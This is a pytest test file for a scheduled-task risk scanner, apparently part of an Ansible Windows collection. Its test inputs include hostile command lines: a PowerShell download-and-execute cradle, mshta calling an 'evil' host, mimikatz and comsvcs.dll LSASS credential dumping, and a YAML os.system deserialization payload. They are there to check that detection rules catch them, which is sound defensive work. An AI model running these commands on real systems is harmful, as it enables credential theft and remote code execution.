# Copyright: (c) 2026, taskguard contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Risk rules: loading/validation errors, what each default rule catches, escalation."""
from __future__ import annotations

import pytest

from ansible_collections.taskguard.windows.plugins.plugin_utils.risk import (
    RiskRuleError, load_rules, severity_at_least,
)
from ansible_collections.taskguard.windows.plugins.plugin_utils.task_model import parse_task_definition

from .helpers import SYSTEM, USER, make_task

RULES = load_rules()


def rule_ids(task, context=None):
    return {r["rule"] for r in RULES.evaluate(task, context)["reasons"]}


def severity(task, context=None):
    return RULES.evaluate(task, context)["severity"]


# ------------------------------------------------------------------ authentic
@pytest.mark.authentic
def test_authentic_gameover_is_critical_from_what_and_where(shared_fixtures):
    data = (shared_fixtures / "tasks" / "win10-aptsim" / "GameOver").read_bytes()
    task = parse_task_definition(data, path="\\GameOver")
    # runs as a normal local user: severity must not come from privilege
    assert task["principal"]["logon_type"] == "InteractiveToken"
    result = RULES.evaluate(task, {"documented": False})
    ids = {r["rule"] for r in result["reasons"]}
    assert {"TG-R004", "TG-R003"} <= ids          # sekurlsa:: + C:\TMP\
    assert "TG-R001" not in ids and "TG-R002" not in ids
    assert result["severity"] in ("high", "critical")


@pytest.mark.authentic
def test_authentic_falshupdate22_is_high(shared_fixtures):
    data = (shared_fixtures / "tasks" / "server2022-aptsim" / "falshupdate22").read_bytes()
    task = parse_task_definition(data, path="\\falshupdate22")
    result = RULES.evaluate(task, {"documented": False})
    assert "TG-R006" in {r["rule"] for r in result["reasons"]}
    assert result["severity"] in ("high", "critical")


# ------------------------------------------------------------ rule coverage
@pytest.mark.parametrize("command,arguments,expected", [
    ("powershell.exe", "-nop -w hidden -c calc", "TG-R006"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-WindowStyle Hidden -File x.ps1", "TG-R006"),
    ("pwsh", "-ExecutionPolicy Bypass -File a.ps1", "TG-R006"),
    ("powershell", "-enc SQBFAFgAIAAoAE4AZQB3AC0A", "TG-R007"),
    ("powershell", "-c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", "TG-R007"),
    ("powershell", "[System.Convert]::FromBase64String('AAAA')", "TG-R007"),
    ("cmd.exe", "/c whoami > C:\\Windows\\Temp\\a.tmp 2>&1", "TG-R008"),
    ("C:\\Windows\\System32\\cmd.exe", "/C echo a && echo b", "TG-R008"),
    ("rundll32.exe", "C:\\Users\\Public\\a.dll,Start", "TG-R005"),
    ("mshta", "http://evil/a.hta", "TG-R005"),
    ("C:\\Users\\bob\\AppData\\Roaming\\upd.exe", None, "TG-R003"),
    ("%TEMP%\\a.exe", None, "TG-R003"),
    ("C:/ProgramData/x/y.exe", None, "TG-R003"),
    ("C:\\PerfLogs\\p.exe", None, "TG-R003"),
    ("C:\\tools\\m.exe", "privilege::debug sekurlsa::logonpasswords", "TG-R004"),
    ("rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full", "TG-R004"),
    ("C:\\a.exe", None, "TG-R015"),
    ("cscript.exe", "C:\\scripts\\run.vbs", "TG-R016"),
    ("C:\\x\\y.exe", "\\\\fileserver\\share\\p.exe", "TG-R017"),
])
def test_default_rules_catch(command, arguments, expected):
    assert expected in rule_ids(make_task("\\T", command=command, arguments=arguments))


def test_plain_vendor_task_matches_nothing():
    task = make_task("\\Vendor\\Update", command="C:\\Program Files\\Vendor\\upd.exe", arguments="/silent")
    assert RULES.evaluate(task, {"documented": False}) == {"severity": None, "reasons": [], "escalations": []}


def test_cmd_switch_is_not_mistaken_for_a_path():
    # "/c" must stay a switch (slashes are only normalised in paths)
    ids = rule_ids(make_task("\\T", command="cmd.exe", arguments="/c dir"))
    assert "TG-R008" in ids


def test_masquerade_only_when_undocumented():
    task = make_task("\\Microsoft\\Windows\\Fake\\Thing")
    assert "TG-R009" in rule_ids(task, {"documented": False})
    assert "TG-R009" not in rule_ids(task, {"documented": True})


def test_guid_name_hidden_flag_concealment_and_uri_mismatch():
    assert "TG-R010" in rule_ids(make_task("\\{0BD2A4E1-1A7F-4A3C-9E4B-8B1F2C3D4E5F}"))
    assert "TG-R011" in rule_ids(make_task("\\T", hidden=True))
    assert "TG-R013" in rule_ids(make_task("\\T", hidden_reasons=["sd_missing"]))
    assert "TG-R014" in rule_ids(make_task("\\Real", uri="\\Microsoft\\Windows\\Other"))
    assert "TG-R014" not in rule_ids(make_task("\\Real", uri="Real"))  # leading backslash is optional


def test_invisible_characters_are_flagged_and_cannot_split_keywords():
    task = make_task("\\T", command="C:\\Tools\\m.exe", arguments="seku\u200brlsa::logonpasswords")
    ids = rule_ids(task)
    assert "TG-R004" in ids and "TG-R020" in ids
    assert "TG-R020" in rule_ids(make_task("\\invoice\u202eexe.pdf"))


def test_privileged_boot_task_escalates():
    task = make_task("\\T", command="C:\\Windows\\Temp\\s.exe", principal=SYSTEM, triggers=("boot",))
    result = RULES.evaluate(task)
    assert {"TG-R001", "TG-R003", "TG-R012"} <= {r["rule"] for r in result["reasons"]}
    assert {e["rule"] for e in result["escalations"]} >= {"TG-E001", "TG-E003"}
    assert result["severity"] == "critical"


def test_same_content_as_normal_user_is_lower_than_as_system():
    as_user = severity(make_task("\\T", command="C:\\Windows\\Temp\\s.exe", principal=USER))
    as_system = severity(make_task("\\T", command="C:\\Windows\\Temp\\s.exe", principal=SYSTEM))
    assert severity_at_least(as_system, as_user) and as_system != as_user


def test_reasons_carry_references_and_mitre():
    reasons = RULES.evaluate(make_task("\\T", command="C:\\Windows\\Temp\\x.exe"))["reasons"]
    r003 = next(r for r in reasons if r["rule"] == "TG-R003")
    assert r003["mitre"] and r003["references"] and r003["references"][0]["url"].startswith("https://")


def test_every_default_rule_has_title_severity_mitre_and_reference():
    for rule in RULES.rules:
        assert rule.title and rule.severity and rule.mitre and rule.references, rule.id


@pytest.mark.hang_seconds(120)   # a safety net against a hang (tests/unit/conftest.py), not a speed bound
def test_long_hostile_argument_is_bounded():
    task = make_task("\\T", command="powershell.exe", arguments="-" + "w" * 2_000_000)
    RULES.evaluate(task)                # catastrophic backtracking would take minutes: the hang guard


# ------------------------------------------------------------ user rule files
def _write(tmp_path, text, name="rules.yml"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_user_rule_added_overridden_and_disabled(tmp_path):
    user = _write(tmp_path, """
version: 1
rules:
  - id: ACME-001
    title: ACME tool
    severity: high
    mitre: [T1053.005]
    references: [{title: internal, url: "https://wiki.example/acme"}]
    match: {any: [{field: action.command_basename, op: equals, values: [acme.exe]}]}
  - id: TG-R011
    title: Hidden flag (ours)
    severity: medium
    match: {all: [{field: task.hidden, op: equals, values: [true]}]}
  - id: TG-R016
    title: "switched off"
    severity: low
    enabled: false
    match: {all: [{field: task.hidden, op: equals, values: [true]}]}
""")
    rules = load_rules([_write(tmp_path, open(RULES.sources[0]).read(), "default.yml"), user])
    assert "ACME-001" in {r["rule"] for r in rules.evaluate(make_task("\\T", command="D:\\acme.exe"))["reasons"]}
    assert rules.evaluate(make_task("\\T", hidden=True))["severity"] == "medium"
    assert "TG-R016" not in rules.by_id


@pytest.mark.parametrize("text,message", [
    ("rules: [{id: X-1, title: t, severity: severe, match: {all: [{field: task.name, op: equals, values: [a]}]}}]",
     "severity must be one of"),
    ("rules: [{id: X-1, title: t, severity: low, match: {all: [{field: task.nme, op: equals, values: [a]}]}}]",
     "unknown field 'task.nme'"),
    ("rules: [{id: X-1, title: t, severity: low, match: {all: [{field: task.name, op: like, values: [a]}]}}]",
     "unknown op 'like'"),
    ("rules: [{id: X-1, title: t, severity: low, match: {all: [{field: task.name, op: regex, values: ['(']}]}}]",
     "invalid regex"),
    ("rules: [{id: X-1, title: t, severity: low, match: {all: [{field: task.name, op: equals, values: []}]}}]",
     "values must be a non-empty list"),
    ("rules: [{id: X-1, title: t, severity: low, match: {all: [], any: []}}]", "must be the only key"),
    ("rules: [{id: X-1, severity: low, match: {all: [{field: task.name, op: equals, values: [a]}]}}]",
     "title is required"),
    ("rules: [{id: X-1, title: t, severity: low, match: {}, bogus: 1}]", "unknown key"),
    ("a: &a [1]\nrules: *a", "aliases"),
    ("rules: []\nrules: []", "duplicate key"),
    ("rules: !!python/object/apply:os.system [id]", "invalid YAML"),
    ("version: 2\nrules: []", "unsupported rule file version"),
    ("- 1", "mapping"),
])
def test_invalid_rule_files_give_clear_errors(tmp_path, text, message):
    path = _write(tmp_path, text)
    with pytest.raises(RiskRuleError) as exc:
        load_rules([path])
    assert message in str(exc.value)
    assert path in str(exc.value)


def test_missing_rule_file_is_a_clear_error(tmp_path):
    with pytest.raises(RiskRuleError, match="cannot read risk rule file"):
        load_rules([str(tmp_path / "nope.yml")])
